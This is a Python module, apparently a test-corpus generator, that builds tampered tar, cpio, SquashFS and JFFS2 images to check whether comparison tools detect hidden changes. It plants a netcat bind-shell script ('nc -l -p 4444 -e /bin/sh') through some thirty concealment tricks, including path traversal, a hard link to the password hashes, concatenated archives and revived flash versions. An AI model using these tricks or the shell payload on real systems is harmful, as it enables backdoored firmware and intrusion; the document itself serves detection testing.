"""Attacks on archives and file systems that one format alone allows."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

from banbury.compare.corpus.pairs import Made, Patch, Recipe, attack
from banbury.compare.corpus.trees import Node, Tree, aged, base
from banbury.compare.corpus.writers import cpio, jffs2, squashfs, tar

EVIL = b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n"
_NOTHING: frozenset[str] = frozenset()


# --- tar -------------------------------------------------------------------------------------------------------------


def _tar(b: bytes, *, changes: frozenset[str] | None = _NOTHING, good: bool = True) -> Made:
    return Made(a=tar.write(base()), b=b, base=tar.write(aged(base())), changes=changes, well_formed=good)


def tar_tail() -> Made:
    return _tar(tar.write(aged(base()), hidden=EVIL.ljust(512, b"\0")))


def tar_second() -> Made:
    """A second archive behind the end, which ``tar -i`` and concatenating readers unpack."""
    return _tar(tar.write(aged(base()), tail=tar.write({"etc/init.d/S99": Node(mode=0o755, data=EVIL)})), changes=None)


def tar_duplicate() -> Made:
    tree = aged(base())
    script = tree["etc/init.d/S50gate"]
    out = b"".join(tar.member(p, n) for p, n in tree.items()) + tar.member("etc/init.d/S50gate", script.but(data=EVIL))
    return _tar(out + tar.END + bytes(-(len(out) + 1024) % 10240), changes=None)


def tar_pax_path() -> Made:
    """A pax record gives a member another name than its header."""
    tree = aged(base())
    out = b""
    for path, node in tree.items():
        out += tar.member(path, node, pax=[tar.record("path", b"etc/profile")] if path == "etc/motd" else [])
    return _tar(out + tar.END + bytes(-(len(out) + 1024) % 10240), changes=frozenset({"etc/motd:-", "etc/profile:+"}))


def tar_global() -> Made:
    """A global pax record gives every member without its own another owner."""
    body = tar.record("uid", b"1000")
    head = tar.header("pax_global_header", Node(data=body), kind=b"g") + body + bytes(-len(body) % 512)
    changes = frozenset(f"{path}:uid" for path in base())
    out = head + b"".join(tar.member(p, n) for p, n in aged(base()).items())
    return _tar(out + tar.END + bytes(-(len(out) + 1024) % 10240), changes=changes)


def tar_climb() -> Made:
    tree = {**aged(base()), "../../etc/cron.d/job": Node(data=EVIL)}
    return _tar(tar.write(tree), changes=frozenset({"../../etc/cron.d/job:+"}))


def tar_slack() -> Made:
    """The rest of a member's last block is not empty."""
    clean = tar.write(aged(base()))
    at = clean.index(b"Welcome\n") + 8
    return Patch(clean).put(at + 16, EVIL).made(tar.write(base()), changes=_NOTHING)


def tar_header_slack() -> Made:
    """Unused bytes of a header, with its checksum made right."""
    clean = tar.write(aged(base()))
    at = clean.index(b"etc/motd\0")
    patch = Patch(clean).put(at + 500, b"twelve bytes")
    patch.put(at + 148, b" " * 8)
    total = sum(patch.data[at : at + 512])
    patch.put(at + 148, f"{total:06o}\0 ".encode())
    return patch.made(tar.write(base()), changes=_NOTHING)


def tar_checksum() -> Made:
    """A header whose checksum is wrong: some readers skip it, some stop, some do not look."""
    clean = tar.write(aged(base()))
    at = clean.index(b"etc/securetty\0")
    return Patch(clean).put(at + 148, b"000000\0 ").made(tar.write(base()), changes=None, well_formed=False)


def tar_hardlink() -> Made:
    """A text became a hard link to the password hashes."""
    tree = aged(base())
    head = tar.header("etc/motd", Node(link="etc/shadow"), kind=b"1", size=0)
    first = b"".join(tar.member(p, n) for p, n in tree.items() if p != "etc/motd") + head
    return _tar(first + tar.END + bytes(-(len(first) + 1024) % 10240), changes=None)


# --- cpio ------------------------------------------------------------------------------------------------------------


def _cpio(b: bytes, *, changes: frozenset[str] | None = _NOTHING, good: bool = True) -> Made:
    return Made(a=cpio.write(base()), b=b, base=cpio.write(aged(base())), changes=changes, well_formed=good)


def cpio_second() -> Made:
    """A second archive, which the kernel unpacks over the first (Linux, init/initramfs.c)."""
    second = cpio.write({"etc/init.d/S50gate": Node(mode=0o755, data=EVIL)})
    return _cpio(cpio.write(aged(base()), tail=second), changes=None)


def cpio_packed_second() -> Made:
    """The same, compressed: the kernel unpacks that too."""
    second = zlib.compressobj(9, zlib.DEFLATED, 31)
    raw = cpio.write({"init": Node(mode=0o755, data=EVIL)})
    return _cpio(cpio.write(aged(base()), tail=second.compress(raw) + second.flush()), changes=None)


def cpio_duplicate() -> Made:
    """Two members of one name: the kernel writes one after the other, the later one stays."""
    tree = aged(base())
    records = [cpio.member(p, n, 700 + i) for i, (p, n) in enumerate(tree.items())]
    records.append(cpio.member("etc/init.d/S50gate", tree["etc/init.d/S50gate"].but(data=EVIL), 999))
    out = b"".join(records) + cpio.member("TRAILER!!!", Node(mtime=0), 0, mode=0)
    return _cpio(out + bytes(-len(out) % 512), changes=None)


def cpio_tail() -> Made:
    clean = cpio.write(aged(base()))
    return _cpio(clean + EVIL)


def cpio_name_slack() -> Made:
    """A name is longer than its string: bytes behind its NUL."""
    node = Node(data=b"Welcome\n", mtime=aged(base())["etc/motd"].mtime)
    name = "etc/motd\0hidden words"
    tree = aged(base())
    records = [
        cpio.member(name if p == "etc/motd" else p, node if p == "etc/motd" else n, 1 + i)
        for i, (p, n) in enumerate(tree.items())
    ]
    out = b"".join(records) + cpio.member("TRAILER!!!", Node(mtime=0), 0, mode=0)
    return _cpio(out + bytes(-len(out) % 512), changes=None, good=False)


def cpio_trailer_data() -> Made:
    """The end mark states content."""
    out = b"".join(cpio.member(p, n, 1 + i) for i, (p, n) in enumerate(aged(base()).items()))
    out += cpio.member("TRAILER!!!", Node(data=EVIL, mtime=0), 0)
    return _cpio(out + bytes(-len(out) % 512))


def cpio_link_group() -> Made:
    """Two files share an inode and count two links: the kernel makes them one file."""
    tree = aged(base())
    out = b""
    for i, (path, node) in enumerate(tree.items()):
        raw = bytearray(cpio.member(path, node, 50 if path in ("etc/motd", "etc/securetty") else 100 + i))
        if path in ("etc/motd", "etc/securetty"):
            raw[38:46] = b"00000002"
        out += bytes(raw)
    out += cpio.member("TRAILER!!!", Node(mtime=0), 0, mode=0)
    return _cpio(out + bytes(-len(out) % 512), changes=None)


def _linked(groups: tuple[tuple[str, ...], ...], mtime: int) -> bytes:
    """An archive of empty files, each of which has the names of one group."""
    out = b""
    for name in ("a", "b", "c, d", "a, b", "c", "d"):
        number = next(n for n, group in enumerate(groups) if name in group)
        raw = bytearray(cpio.member(name, Node(mtime=mtime), 100 + number))
        raw[38:46] = b"%08X" % len(groups[number])
        out += bytes(raw)
    out += cpio.member("TRAILER!!!", Node(mtime=0), 0, mode=0)
    return out + bytes(-len(out) % 512)


def cpio_link_names() -> Made:
    """Other names are links of one file; written one behind the other with commas, both groups look the same."""
    honest = (("a", "b", "c, d"), ("a, b", "c", "d"))
    tampered = (("a", "b", "c", "d"), ("a, b", "c, d"))
    return Made(a=_linked(honest, 1), b=_linked(tampered, 2), base=_linked(honest, 2))


# --- SquashFS --------------------------------------------------------------------------------------------------------


def _squash(b: bytes, *, changes: frozenset[str] | None = _NOTHING, good: bool = True) -> Made:
    return Made(a=squashfs.write(base()), b=b, base=_squash_clean(), changes=changes, well_formed=good)


def _squash_clean() -> bytes:
    return squashfs.write(aged(base()), made=1_700_000_000)


def squash_tail() -> Made:
    return _squash(_squash_clean() + EVIL * 4)


def squash_padding() -> Made:
    clean = _squash_clean()
    return Patch(clean).put(len(clean) - 200, EVIL).made(squashfs.write(base()), changes=_NOTHING)


def squash_unreferenced() -> Made:
    return _squash(squashfs.write(aged(base()), made=1_700_000_000, unreferenced=EVIL * 10))


def squash_flags() -> Made:
    """The superblock says that there are no extended attributes to look for, and more that readers ignore."""
    clean = _squash_clean()
    flags = struct.unpack_from("<H", clean, 24)[0]
    return Patch(clean).put(24, struct.pack("<H", flags | 0x8000)).made(squashfs.write(base()), changes=None)


def squash_size() -> Made:
    """``bytes_used`` counts the padding too, so that it looks owned, and something is in it."""
    clean = _squash_clean()
    patch = Patch(clean).put(40, struct.pack("<Q", len(clean)))
    return patch.put(len(clean) - 64, EVIL).made(squashfs.write(base()), changes=None, well_formed=False)


# --- JFFS2 -----------------------------------------------------------------------------------------------------------


def _flash(tree: Tree, *, vendor: bool = True) -> jffs2.Flash:
    flash = jffs2.Flash(first=40 if vendor else 1)
    flash.version = 500 if vendor else 0
    for path, node in tree.items():
        flash.add(path, node)
    return flash


def _jffs(flash: jffs2.Flash, changes: frozenset[str] | None = _NOTHING) -> Made:
    clean = jffs2.write(aged(base()), first=40, start=500)
    return Made(a=jffs2.write(base()), b=flash.done(), base=clean, changes=changes)


def jffs2_revived() -> Made:
    """An older version of a script, with a back door, gets the higher version: it is the current one."""
    tree = aged(base())
    flash = _flash(tree)
    path = "etc/init.d/S50gate"
    evil = tree[path].but(data=EVIL)
    flash.content(flash.inodes[path], evil, version=2)
    return _jffs(flash, frozenset({f"{path}:content"}))


def jffs2_obsolete() -> Made:
    """An obsolete version is left that a torn write would make current again: bytes that no tree shows."""
    tree = aged(base())
    flash = _flash(tree)
    path = "etc/init.d/S50gate"
    flash.content(flash.inodes[path], tree[path].but(data=EVIL), version=0)
    return _jffs(flash, None)


def jffs2_orphan() -> Made:
    """An inode that no name leads to."""
    flash = _flash(aged(base()))
    flash.content(4_000, Node(data=EVIL), version=1)
    return _jffs(flash)


def jffs2_deleted() -> Made:
    """A name that was deleted, with its content still there."""
    flash = _flash(aged(base()))
    inode = flash.add("etc/backdoor", Node(mode=0o755, data=EVIL))
    flash.name("etc/backdoor", 0)
    assert inode
    return _jffs(flash)


def jffs2_rename() -> Made:
    """A later name makes a known script another inode."""
    flash = _flash(aged(base()))
    inode = flash.add("etc/init.d/.new", Node(mode=0o755, data=EVIL))
    flash.name("etc/init.d/.new", 0)
    flash.name("etc/init.d/S50gate", inode)
    return _jffs(flash, frozenset({"etc/init.d/S50gate:content"}))


def jffs2_slack() -> Made:
    """Erased flash is not all ones."""
    clean = jffs2.write(aged(base()), first=40, start=500)
    return Patch(clean).put(len(clean) - 4096, EVIL).made(jffs2.write(base()), changes=_NOTHING)


def jffs2_bad_checksum() -> Made:
    """A newer node with a wrong checksum: some boot loaders' readers do not check it."""
    tree = aged(base())
    flash = _flash(tree)
    path = "etc/init.d/S50gate"
    at = flash.content(flash.inodes[path], tree[path].but(data=EVIL), version=2, packed=False)
    flash.out[at + 60] ^= 1
    return _jffs(flash, None)


def jffs2_attribute_name() -> Made:
    """An attribute's name is one byte that is no UTF-8, where the honest one spells it with a backslash."""
    flashes = [_flash(base(), vendor=False), _flash(aged(base())), _flash(aged(base()))]
    for flash, name in zip(flashes, (rb"a\xff", b"a\xff", rb"a\xff"), strict=True):
        flash.attribute("bin/tool", 1, name, b"1")
    a, b, honest = (flash.done() for flash in flashes)
    return Made(a=a, b=b, base=honest)


TRICKS = (
    ("tar", "tail", "trailing", "Bytes stand behind the blocks that end the archive.", tar_tail),
    ("tar", "second", "extra-member", "A second archive follows.", tar_second),
    ("tar", "duplicate", "extra-member", "A later member of the same name replaces a script.", tar_duplicate),
    ("tar", "pax-path", "mismatch", "A member's extended header gives it another name.", tar_pax_path),
    ("tar", "global", "attribute", "One global header gives every member another owner.", tar_global),
    ("tar", "climb", "extra-member", "A member's name climbs out of the tree.", tar_climb),
    ("tar", "slack", "hidden-space", "A member's last block holds something behind its content.", tar_slack),
    ("tar", "header-slack", "hidden-space", "Unused bytes of a header hold something.", tar_header_slack),
    ("tar", "checksum", "checksum", "A header's checksum is wrong.", tar_checksum),
    ("tar", "hardlink", "attribute", "A text is a hard link to the password hashes.", tar_hardlink),
    (
        "cpio",
        "second",
        "extra-member",
        "A second archive follows, which the kernel unpacks over the first.",
        cpio_second,
    ),
    ("cpio", "packed-second", "extra-member", "A compressed second archive follows.", cpio_packed_second),
    ("cpio", "duplicate", "extra-member", "A later member of the same name replaces a script.", cpio_duplicate),
    ("cpio", "tail", "trailing", "Bytes stand behind the end mark.", cpio_tail),
    ("cpio", "name-slack", "hidden-space", "A name's field holds more than the name.", cpio_name_slack),
    ("cpio", "trailer-data", "hidden-space", "The end mark has content.", cpio_trailer_data),
    ("cpio", "link-group", "attribute", "Two files are one.", cpio_link_group),
    ("cpio", "link-names", "attribute", "Other names are links of one file.", cpio_link_names),
    ("squashfs", "tail", "trailing", "Bytes stand behind the padding.", squash_tail),
    ("squashfs", "padding", "hidden-space", "The padding holds something.", squash_padding),
    ("squashfs", "unreferenced", "hidden-space", "A block that no inode refers to.", squash_unreferenced),
    ("squashfs", "flags", "header", "The superblock has an unknown flag.", squash_flags),
    ("squashfs", "size", "header", "The stated size takes in padding that holds something.", squash_size),
    ("jffs2", "revived", "revival", "A script's other version has the higher number.", jffs2_revived),
    ("jffs2", "obsolete", "revival", "An obsolete version with a back door is left.", jffs2_obsolete),
    ("jffs2", "orphan", "revival", "An inode without a name is left.", jffs2_orphan),
    ("jffs2", "deleted", "revival", "A deleted file's content is left.", jffs2_deleted),
    ("jffs2", "rename", "revival", "A later name leads to another inode.", jffs2_rename),
    ("jffs2", "attribute-name", "attribute", "An attribute has another name.", jffs2_attribute_name),
    ("jffs2", "slack", "hidden-space", "Erased space holds something.", jffs2_slack),
    ("jffs2", "checksum", "checksum", "A later node has a wrong checksum.", jffs2_bad_checksum),
)


def recipes() -> Iterator[Recipe]:
    for form, key, group, note, make in TRICKS:
        yield attack(f"{form}-{key}", form, group, note, make)
